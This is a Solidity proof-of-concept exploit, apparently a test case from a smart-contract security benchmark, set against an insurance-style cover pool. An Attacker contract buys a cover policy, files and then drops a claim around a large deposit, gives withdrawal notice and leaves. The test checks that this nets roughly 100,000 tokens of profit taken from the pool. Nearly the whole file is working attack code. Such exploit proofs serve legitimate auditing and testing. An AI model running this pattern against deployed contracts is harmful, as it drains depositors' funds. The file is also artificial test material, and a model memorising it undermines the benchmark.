// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-4fca8c36-e2c5-40c1-9b2f-1b0b11394f31
import "../Base.sol";

contract Attacker {
    CoverPool private pool;
    uint256 private id;

    function insure(IERC20 _crown, PolicyBook _book, CoverPool _pool) external {
        pool = _pool;
        _crown.approve(address(_book), type(uint256).max);
        _crown.approve(address(_pool), type(uint256).max);
        id = _book.buy(address(_pool), Peril.Damage, 400_000e18, 7, type(uint256).max, address(this));
    }

    function join(IERC20 _crown, ClaimDesk _claims, uint256 _amount) external {
        _crown.approve(address(_claims), type(uint256).max);
        uint256 claimId = _claims.file(id, 400_000e18, "anything");
        uint256 shares = pool.deposit(_amount);
        _claims.drop(claimId);
        pool.giveNotice(shares);
    }

    function leave() external {
        pool.leave(0);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        crown.mint(address(other), 1_010_000e18);
    }

    function exploit() public {
        other.insure(crown, book, vale);
        later(1 days);
        other.join(crown, claims, 1_000_000e18);
        later(7 days);
        other.leave();
    }

    function test_Exploit() public {
        exploit();
        require(crown.balanceOf(address(other)) >= 1_110_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(vale);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
